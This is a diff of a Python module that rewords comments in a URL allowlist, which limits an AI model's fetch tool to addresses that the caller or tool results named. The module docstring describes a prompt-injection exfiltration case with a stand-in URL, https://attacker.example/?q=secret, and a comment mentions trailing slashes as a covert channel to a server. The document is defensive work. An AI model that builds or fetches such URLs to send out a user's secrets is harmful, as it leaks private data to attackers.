@@ -1,8 +1,8 @@
-"""The URLs that a request may fetch: those that its caller or a result named.
+"""The URLs that a request may fetch: those that its caller or a tool result named.
 
-A model writes addresses as it likes, also such as an attacker's page dictates, with the caller's
-words in them: https://attacker.example/?q=secret. What nobody else named is therefore not fetched,
-as Anthropic's own tool does not: docs/decisions/0149.
+A model can write any address, including one that an attacker's page dictates with the caller's
+secrets in it: https://attacker.example/?q=secret. Therefore an address that nobody else named is
+not fetched; Anthropic's own tool has the same rule: docs/decisions/0149.
 """
 
 import re
@@ -15,10 +15,10 @@ from tollgate.core.content import Document, Image, MediaUrl, Text
 from tollgate.core.request import AssistantMessage, GenerationRequest
 from tollgate.tools.kinds import URL_BYTES_MAX
 
-# Of one request, in all spellings that are read; a page of links has some hundred.
+# Addresses of one request, counted in all spellings; a page of links has some hundred.
 _URLS_MAX: Final = 20_000
 _URL: Final = re.compile(r"https?://[^\s<>\"'`{}|\\^\x00-\x1f]+", re.IGNORECASE)
-# A caller writes "see example.com/prices"; results are not read for such.
+# Callers write "see example.com/prices"; results are not searched for addresses without a scheme.
 _BARE: Final = re.compile(
     r"(?<![\w@/.:-])(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}(?:/[^\s<>\"'`{}|\\^]*)?", re.IGNORECASE
 )
@@ -27,13 +27,13 @@ _PORTS: Final = {"http": 80, "https": 443}
 
 
 class KnownUrls:
-    """The addresses that were seen, told apart by host, port, path and query."""
+    """The addresses that were named, compared by host, port, path and query."""
 
     def __init__(self, request: GenerationRequest) -> None:
         self._known: dict[str, str] = {}
         self._read: set[str] = set()
         for message in request.messages:
-            # The assistant's words are the model's own, which proves nothing.
+            # The assistant's text comes from the model, so an address in that text proves nothing.
             if isinstance(message, AssistantMessage):
                 continue
             for part in message.content:
@@ -47,20 +47,20 @@ class KnownUrls:
                         pass
 
     def find(self, url: str) -> str | None:
-        """Return an address as it was first named, None for one that nobody named.
+        """Return an address as it was first named, None if nobody named it.
 
-        That one is fetched: the slashes at the end of a model's spelling could be counted by the
-        server that gets them.
+        The first spelling is the one to fetch: the number of slashes at the end of the model's
+        spelling could carry a message to the server.
         """
         key = _key(url)
         return None if key is None else self._known.get(key)
 
     def note_text(self, text: str) -> None:
-        """Remember the addresses in a text."""
+        """Record the addresses in a text."""
         self.note(_URL.findall(text))
 
     def note(self, urls: Iterable[str]) -> None:
-        """Remember addresses."""
+        """Record addresses."""
         for url in urls:
             if url in self._read:
                 continue
@@ -73,27 +73,27 @@ class KnownUrls:
 
 
 def _spellings(url: str) -> Iterator[str]:
-    """Yield an address as it stands in a text, and without the marks that may be the text's."""
+    """Yield an address as found in a text, and without punctuation that may belong to the text."""
     if len(url) > URL_BYTES_MAX:
         return
     yield url
     # `[title](https://a.example/b)` ends before the bracket, `https://a.example/b_(c)` after it.
-    # Found by places: a text of megabytes that is all brackets is not copied for each of them.
+    # The end is found by index: in megabytes of brackets, a copy for each would take too long.
     end = len(url.rstrip(_TRAILING + ")"))
     for _ in range(url.count("(", 0, end) - url.count(")", 0, end)):
         end = url.find(")", end) + 1 or end
     trimmed = url[:end]
     yield trimmed
-    # `[title](https://a.example/b)[next](…)`, without a blank between.
+    # `[title](https://a.example/b)[next](…)`, without a space in between.
     yield trimmed.partition(")")[0]
     if "&amp;" in trimmed:
         yield unescape(trimmed)
 
 
 def _key(url: str) -> str | None:
-    """Return an address in one spelling, None for one that is none.
+    """Return an address in canonical form for comparison, None if it is not valid.
 
-    The scheme is left out, as models add `https://`, and so is a slash at the end of the path.
+    The scheme is left out, since models add `https://`, and so is a trailing slash of the path.
     """
     try:
         parts = urlsplit(url.strip())
